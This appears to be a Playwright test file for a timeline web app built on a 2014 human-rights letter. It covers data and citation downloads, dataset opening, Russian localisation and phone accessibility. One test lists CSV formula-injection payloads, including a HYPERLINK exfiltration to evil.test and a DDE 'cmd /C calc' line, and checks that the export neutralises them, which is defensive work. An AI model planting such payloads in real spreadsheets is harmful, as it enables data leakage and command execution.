import { axe } from './support/axe.ts';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { parse as parseBibtex } from '@retorquere/bibtex-parser';
import { expect, test, type Download, type Locator, type Page } from '@playwright/test';
import { parse as parseCsv } from 'csv-parse/sync';
import { readCitations } from '../src/test/citation-parsers.ts';
import { validateDataset } from '../src/dataset/check/validate-dataset.ts';
import { dayEvent, smallDataset, type TestDataset } from './support/datasets.ts';
import { expectNoHorizontalScroll, fulfillJson } from './support/guards.ts';

const HOMES = 'insurgent-family-homes-torched';
/** The letter's dataset as the app serves it, for what the files must hold. */
const LETTER = JSON.parse(
  readFileSync(new URL('../data/events.json', import.meta.url), 'utf8'),
) as TestDataset;
const COUNT = LETTER.events.length;
const HOMES_TITLE = LETTER.events.find((e) => e.id === HOMES)?.title ?? '';
const ARSON_QUOTE =
  'In the evening, the office of JMG was destroyed by fire caused by an apparent arson attack.';

/** Clicks `control` and returns the file the browser saved, its name and its bytes. */
async function download(
  page: Page,
  control: Locator,
): Promise<{ name: string; bytes: Buffer; text: string }> {
  const [file] = await Promise.all([page.waitForEvent('download'), control.click()]);
  return read(file);
}

async function read(file: Download) {
  const path = await file.path();
  const bytes = await readFile(path);
  return { name: file.suggestedFilename(), bytes, text: bytes.toString('utf8') };
}

/** RFC 4180, strictly: a stray quote or a short row fails the test. */
function readCsv(text: string): Record<string, string>[] {
  return parseCsv(text, {
    bom: true,
    columns: true,
    relax_quotes: false,
    record_delimiter: '\r\n',
  });
}

test('a researcher downloads the events, the dataset, the source and every citation format, and each file reads back', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  // The event's own page, two folders down: every file is still found beside the site's folder.
  await page.goto(`/event/${HOMES}/`);
  const panel = page.getByRole('complementary');
  await expect(panel).toHaveAccessibleName(HOMES_TITLE);

  // The page's one Download menu, beside the list's heading.
  const toolbar = page.getByRole('navigation', { name: /Events in order/ });
  const menuButton = toolbar.getByRole('button', { name: 'Download data' });
  await expect(menuButton).toHaveAttribute('aria-expanded', 'false');
  await menuButton.click();
  await expect(menuButton).toHaveAttribute('aria-expanded', 'true');

  const csv = await download(page, toolbar.getByRole('button', { name: 'Events as CSV' }));
  expect(csv.name).toBe('joint-letter-2014-12-16-events.csv');
  expect([...csv.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(csv.text.endsWith('\r\n')).toBe(true);
  const rows = readCsv(csv.text);
  expect(rows).toHaveLength(COUNT);
  expect(rows.find((r) => r.id === HOMES)).toMatchObject({
    date: 'about 5–8 December 2014',
    edtf: '2014-12-05~/2014-12-08~',
    precision: 'days',
    certainty: 'approximate',
    kind_label: 'Violence',
    kind_basis: 'our call',
    paragraphs: '3',
  });
  expect(rows.find((r) => r.id === HOMES)?.link).toMatch(
    /\/event\/insurgent-family-homes-torched\/$/,
  );
  await expect(toolbar.getByRole('status').filter({ hasText: 'Saved' })).toHaveText(
    'Saved joint-letter-2014-12-16-events.csv.',
  );

  const json = await download(page, toolbar.getByRole('button', { name: 'Dataset as JSON' }));
  expect(json.name).toBe('joint-letter-2014-12-16-dataset.json');
  const parsed: unknown = JSON.parse(json.text);
  const validated = await validateDataset(parsed);
  expect(validated.ok && validated.dataset.events.length).toBe(COUNT);
  expect((parsed as { export: unknown }).export).toMatchObject({
    events: COUNT,
    of: COUNT,
    filter: null,
  });

  const source = await download(page, toolbar.getByRole('link', { name: 'Source file' }));
  expect(source.name).toBe('joint-letter-2014-12-16.txt');
  const sha256 = createHash('sha256').update(source.bytes).digest('hex');
  await expect(toolbar.locator('code')).toHaveText(sha256);
  expect(validated.ok && validated.dataset.document.source?.sha256).toBe(sha256);

  // Esc closes the menu and gives focus back to its button; the open event stays open.
  await page.keyboard.press('Escape');
  await expect(menuButton).toHaveAttribute('aria-expanded', 'false');
  await expect(menuButton).toBeFocused();
  await expect(toolbar.getByRole('button', { name: 'Events as CSV' })).toBeHidden();
  await expect(panel).toBeVisible();

  // Citation formats for the open event.
  const formats = panel.getByRole('button', { name: 'Citation formats' });
  await formats.click();
  await expect(formats).toHaveAttribute('aria-expanded', 'true');
  await expect(panel.getByRole('radio', { name: 'This event (paragraph 3)' })).toBeChecked();

  const bib = await download(page, panel.getByRole('button', { name: 'Download BibTeX (.bib)' }));
  expect(bib.name).toBe(`joint-letter-2014-12-16-${HOMES}.bib`);
  const library = parseBibtex(bib.text, { english: false });
  expect(library.errors).toEqual([]);
  expect(library.entries[0]?.fields).toMatchObject({
    title:
      'Joint Letter to President Putin: Investigate Attacks against Human Rights Defenders, Condemn Collective Punishment',
    date: '2014-12-16',
    // The copy the quotes are from, by its file and checksum, follows the paragraph.
    note: 'Index: EUR 46/056/2014, paragraph 3, quoted from the copy of the document in the file joint-letter-2014-12-16.txt (SHA-256 e88c7e07018866715b2eb9a45f2634a040160f3652e63301cc306fb541961b62)',
    eventtitle: HOMES_TITLE,
  });
  // An approximate date is never given as a date field, only in words.
  expect(library.entries[0]?.fields.eventdate).toBeUndefined();
  expect(library.entries[0]?.fields.annote).toContain('about 5–8 December 2014');
  expect(library.entries[0]?.fields.url).toMatch(/\/event\/insurgent-family-homes-torched\/$/);

  const ris = await download(page, panel.getByRole('button', { name: 'Download RIS (.ris)' }));
  expect(ris.name).toBe(`joint-letter-2014-12-16-${HOMES}.ris`);
  const [risItem] = await readCitations(ris.text);
  expect(risItem).toMatchObject({
    type: 'document',
    number: 'Index: EUR 46/056/2014',
    issued: { 'date-parts': [[2014, 12, 16]] },
  });

  const csl = await download(
    page,
    panel.getByRole('button', { name: 'Download CSL-JSON (.json)' }),
  );
  expect(csl.name).toBe(`joint-letter-2014-12-16-${HOMES}.json`);
  const [cslItem] = await readCitations(csl.text);
  expect(cslItem?.['event-date']).toEqual({
    'date-parts': [
      [2014, 12, 5],
      [2014, 12, 8],
    ],
    circa: true,
  });

  const txt = await download(
    page,
    panel.getByRole('button', { name: 'Download Plain text (.txt)' }),
  );
  expect(txt.name).toBe(`joint-letter-2014-12-16-${HOMES}.txt`);
  expect(txt.text).toContain('Over the next few days, our organizations became aware');

  await panel.getByRole('button', { name: 'Copy BibTeX' }).click();
  await expect(panel.getByRole('status').filter({ hasText: 'BibTeX copied' })).toBeVisible();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(bib.text);

  // The whole letter.
  await panel.getByRole('radio', { name: 'The whole letter' }).check();
  const letterBib = await download(
    page,
    panel.getByRole('button', { name: 'Download BibTeX (.bib)' }),
  );
  expect(letterBib.name).toBe('joint-letter-2014-12-16.bib');
  const letterEntry = parseBibtex(letterBib.text, { english: false }).entries[0];
  expect(letterEntry?.key).toBe('joint-letter-2014-12-16');
  expect(letterEntry?.fields.eventtitle).toBeUndefined();
  const letterTxt = await download(
    page,
    panel.getByRole('button', { name: 'Download Plain text (.txt)' }),
  );
  expect(letterTxt.text).toContain(
    'Amnesty International, Front Line Defenders, Human Rights Watch. Joint Letter',
  );
  expect(letterTxt.text).toContain('Quoted from the copy of the letter in the file');

  await page.keyboard.press('Escape');
  await expect(formats).toBeFocused();
  await expect(formats).toHaveAttribute('aria-expanded', 'false');
  await expect(panel).toBeVisible();

  // The list's Download menu, by keyboard alone.
  const list = page.getByRole('navigation', { name: /Events in order/ });
  await list.getByRole('button', { name: 'Download' }).focus();
  await page.keyboard.press('Enter');
  await page.keyboard.press('Tab');
  await expect(list.getByRole('button', { name: 'Events as CSV' })).toBeFocused();
  const [byKeyboard] = await Promise.all([
    page.waitForEvent('download'),
    page.keyboard.press('Enter'),
  ]);
  expect(readCsv((await read(byKeyboard)).text)).toHaveLength(COUNT);
});

const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\tTabbed',
  '\r\nStarts with a line break',
  'Said "stop", then, left',
  'Line one\nline two\r\nline three',
  '\u202Eexe.fdp and עברית text',
];

test('a CSV of events with hostile titles opens as text: formulas inert, quotes, line breaks and right-to-left text intact', async ({
  page,
}) => {
  const dataset = smallDataset();
  dataset.events = HOSTILE_TITLES.map((title, i) =>
    dayEvent(
      `hostile-${i + 1}`,
      `2014-12-${String(10 + i).padStart(2, '0')}`,
      title,
      'p1',
      'the office burned down',
    ),
  );
  await page.route('**/hostile-titles.json', fulfillJson(dataset));
  await page.goto('/?data=hostile-titles.json');
  const list = page.getByRole('navigation', { name: /Events in order/ });
  await expect(list.getByRole('listitem')).toHaveCount(HOSTILE_TITLES.length);

  await list.getByRole('button', { name: 'Download' }).click();
  const csv = await download(page, list.getByRole('button', { name: 'Events as CSV' }));
  expect(csv.name).toBe('hostile-titles-events.csv');
  const rows = readCsv(csv.text);
  expect(rows.map((r) => r.title)).toEqual([
    `'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`,
    `'+1+cmd|' /C calc'!A0`,
    "'-2+3",
    "'@SUM(1,2)",
    "'\tTabbed",
    "'\r\nStarts with a line break",
    'Said "stop", then, left',
    'Line one\nline two\r\nline three',
    '\u202Eexe.fdp and עברית text',
  ]);
  // No cell of any row starts a formula.
  for (const row of rows)
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});

test('a colleague opens a dataset file sent by email, is told why a bad one cannot open, and can edit a copy of any dataset, in either language', async ({
  page,
}, testInfo) => {
  const good = testInfo.outputPath('letter-from-a-colleague.json');
  const bad = testInfo.outputPath('not-a-dataset.json');
  await writeFile(good, JSON.stringify(LETTER, null, 2));
  await writeFile(bad, '<!doctype html><title>Sign in</title>');
  await page.goto('/');
  const list = page.getByRole('navigation', { name: /Events in order/ });
  await expect(list.getByRole('listitem')).toHaveCount(20);
  const menuButton = list.getByRole('button', { name: 'Download data' });
  await menuButton.click();
  const editLink = list.getByRole('link', { name: 'Edit a copy' });
  await expect(editLink).toHaveAttribute('href', 'edit/?from=default');
  const chooser = list.getByLabel('Open a dataset file');

  // A file that is not a dataset: the message a link's dataset would get, and the letter stays.
  await chooser.setInputFiles(bad);
  const alert = list.getByRole('alert');
  await expect(alert).toContainText('The file could not be opened');
  await expect(alert).toContainText('is not JSON: it begins with text or HTML');
  await expect(page).toHaveURL(/\/$/);
  await page.keyboard.press('Escape');
  await expect(menuButton).toHaveAttribute('aria-expanded', 'false');
  await expect(list.getByRole('listitem')).toHaveCount(20);
  await list.getByRole('button', { name: /JMG office destroyed/ }).click();
  await expect(page.getByRole('complementary')).toHaveAccessibleName(/JMG office destroyed/);
  await page.getByRole('complementary').getByRole('button', { name: 'Close' }).click();

  // A good one opens at its own address, says whose it is, and its quotes are marked.
  await menuButton.click();
  await chooser.setInputFiles(good);
  await expect(page).toHaveURL(/\/\?data=file:[0-9a-f]{16}$/);
  const ref = new URL(page.url()).searchParams.get('data') ?? '';
  const note = page.getByRole('note').filter({ hasText: 'Your own file' });
  await expect(note).toContainText('letter-from-a-colleague.json');
  await expect(note).toContainText('work only here, on this device');
  await list.getByRole('button', { name: /JMG office destroyed/ }).click();
  const panel = page.getByRole('complementary');
  await expect(panel.locator('blockquote mark')).toHaveText(ARSON_QUOTE);

  // A reload finds the file kept in this browser.
  await page.reload();
  await expect(page.getByRole('complementary').locator('blockquote mark')).toHaveText(ARSON_QUOTE);
  await expect(note).toBeVisible();
  await list.getByRole('button', { name: 'Download data' }).click();
  await expect(list.getByRole('link', { name: 'Edit a copy' })).toHaveAttribute(
    'href',
    `edit/?from=${ref}`,
  );

  // In Russian, "Edit a copy" goes to the Russian editor, from the menu and from About.
  await page.goto('/ru/?about=1');
  const russian = page.getByRole('link', { name: 'Редактировать копию' });
  await expect(russian).toHaveCount(1);
  expect(await russian.evaluate((a: HTMLAnchorElement) => a.href)).toMatch(
    /\/ru\/edit\/\?from=default$/,
  );
  await page.goto('/?data=data/events.json&lang=ru');
  await page.getByRole('button', { name: 'Скачать данные' }).first().click();
  expect(
    await page
      .getByRole('link', { name: 'Редактировать копию' })
      .evaluate((a: HTMLAnchorElement) => a.href),
  ).toMatch(/\/ru\/edit\/\?from=data\/events\.json$/);
});

test.describe('on a 390×844 phone', () => {
  test.use({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });

  test('the open menus fit the screen, and pass WCAG 2.1 A and AA checks', async ({ page }) => {
    await page.goto(`/?event=${HOMES}`);
    // The page's own HTML shows the controls before the app runs: wait for the app to open the event.
    await expect(page.getByRole('complementary')).toHaveAccessibleName(HOMES_TITLE);
    // On a phone the Download beside the list's heading is the one (the toolbar's gives way,
    // so that the timeline comes first); its menu floats over the open event's sheet.
    await expect(
      page.getByRole('region', { name: 'Timeline' }).getByRole('button', { name: 'Download' }),
    ).toBeHidden();
    const list = page.getByRole('navigation', { name: /Events in order/ });
    const menuButton = list.getByRole('button', { name: 'Download' });
    await menuButton.click();
    await expect(menuButton).toHaveAttribute('aria-expanded', 'true');
    const csvButton = list.getByRole('button', { name: 'Events as CSV' });
    await expect(csvButton).toBeInViewport({ ratio: 1 });
    await expect(list.locator('code')).toBeInViewport({ ratio: 1 });
    // Nothing covers the menu: the point at its first item's centre is that item.
    const box = await csvButton.boundingBox();
    if (!box) throw new Error('The CSV item has no box.');
    expect(
      await page.evaluate(
        ([x, y]) => document.elementFromPoint(x, y)?.closest('button')?.textContent ?? '',
        [box.x + box.width / 2, box.y + box.height / 2] as const,
      ),
    ).toContain('CSV');
    await expectNoHorizontalScroll(page);
    const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'];
    expect((await axe(page).withTags(tags).analyze()).violations).toEqual([]);
    await page.keyboard.press('Escape');

    const panel = page.getByRole('complementary');
    await panel.getByRole('button', { name: 'Citation formats' }).click();
    const last = panel.getByRole('button', { name: 'Download CSL-JSON (.json)' });
    await last.scrollIntoViewIfNeeded();
    await expect(last).toBeInViewport({ ratio: 1 });
    await expectNoHorizontalScroll(page);
    expect((await axe(page).withTags(tags).analyze()).violations).toEqual([]);
  });
});
